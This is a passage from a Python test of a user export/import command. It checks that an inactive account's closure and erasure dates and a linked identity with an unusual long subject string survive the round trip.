        user = somebody("minji@example.kr", is_active=False, closed_at=closed, erase_at=ends, provider="google")
        db.session.add(Identity(provider="google", subject="a|b c%" + "x" * 249, user=user))
        db.session.commit()
    assert runner.invoke(args=["users", "export", str(file)]).exit_code == 0
    with app.app_context():
        db.session.execute(delete(Identity))
        db.session.execute(delete(User))
        db.session.commit()
    result = runner.invoke(args=["users", "import", str(file)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        user = db.session.scalars(select(User)).one()
        assert (user.is_active, user.closed_at, user.erase_at) == (False, closed, ends)
        assert [one.subject for one in user.identities] == ["a|b c%" + "x" * 249]
